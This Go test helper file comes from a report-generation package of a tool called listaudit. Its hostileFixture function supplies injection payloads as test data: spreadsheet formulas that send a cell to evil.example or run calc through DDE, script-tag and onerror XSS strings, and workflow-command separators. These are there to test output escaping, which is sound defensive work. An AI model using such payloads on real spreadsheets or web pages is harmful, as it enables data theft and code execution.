package report

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/listaudit/listaudit/pkg/domain"
)

// schemaDir holds the SARIF and JUnit schemas. They live in the shared
// reference folder beside the checkout (CI lays ../shared beside the
// repository), never in the project; LISTAUDIT_SCHEMA_DIR overrides it.
func schemaDir() string {
	if d := os.Getenv("LISTAUDIT_SCHEMA_DIR"); d != "" {
		return d
	}
	return filepath.Join("..", "..", "..", "shared", "reference", "schemas")
}

// schemaFile returns the path of a schema, skipping the test when it is
// absent: the schemas are optional even in CI.
func schemaFile(t *testing.T, name string) string {
	t.Helper()
	path := filepath.Join(schemaDir(), name)
	if _, err := os.Stat(path); err != nil {
		t.Skipf("schema %s not found (%v): skipping validation; it is read from shared/reference/schemas beside the checkout or $LISTAUDIT_SCHEMA_DIR", name, err)
	}
	return path
}

// inCI reports whether the test runs in CI, where a missing tool must fail
// the test rather than skip it, so CI cannot pass without running it.
func inCI() bool { return os.Getenv("CI") == "true" }

// needTool returns the path of an external program, skipping the test
// when it is missing locally and failing it in CI.
func needTool(t *testing.T, path, install string) string {
	t.Helper()
	if _, err := os.Stat(path); err == nil {
		return path
	}
	if p, err := exec.LookPath(filepath.Base(path)); err == nil {
		return p
	}
	if inCI() {
		t.Fatalf("%s not installed (%s): CI=true, so this test must run", path, install)
	}
	t.Skipf("%s not installed (%s): skipping", path, install)
	return ""
}

// render runs one format on r and returns its output.
func render(t *testing.T, format string, r *domain.Result, opts Options) []byte {
	t.Helper()
	rep, err := Lookup(format)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.Report(&buf, r, opts); err != nil {
		t.Fatalf("%s report: %v", format, err)
	}
	return buf.Bytes()
}

// hostileFixture is the fixture with cell values, messages, columns and a
// file name written to attack the formats: spreadsheet formulas, Markdown
// and HTML markup, workflow-command separators and line breaks.
func hostileFixture() *domain.Result {
	r := fixture()
	hostile := []struct{ value, message, column string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `=HYPERLINK("http://evil.example","x")`, "=cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "@col"},
		{"-2+3", "-2+3+cmd|' /C calc'!A0", "-col"},
		{"\t=1", "\t=1 tab first", "\tcol"},
		{"\r=1", "\r=1 carriage return first", "\rcol"},
		{"+1+1", "+SUM(1)", "+col"},
	}
	for i, h := range hostile {
		f := &r.Findings.(domain.FindingSlice)[i]
		f.Field = domain.FieldConsentAt // not PII, so the value is shown as is
		f.Value, f.Message, f.Column = h.value, h.message, h.column
	}
	// A message that tries to break out of every format.
	r.Findings.(domain.FindingSlice)[6].Message = "a | b *c* _d_ [l](http://x) <img src=x onerror=alert(1)> </script><script>alert(2)</script> `e` ~f~ $g$ & h\nnext::error::x %0A 50%, i:j"
	r.Inputs[0].Path = "=evil,dir/con:tacts.csv"
	for i := range r.Findings.(domain.FindingSlice) {
		if r.Findings.(domain.FindingSlice)[i].Loc.FileIndex == 0 {
			r.Findings.(domain.FindingSlice)[i].Loc.File = r.Inputs[0].Path
		}
	}
	return r
}
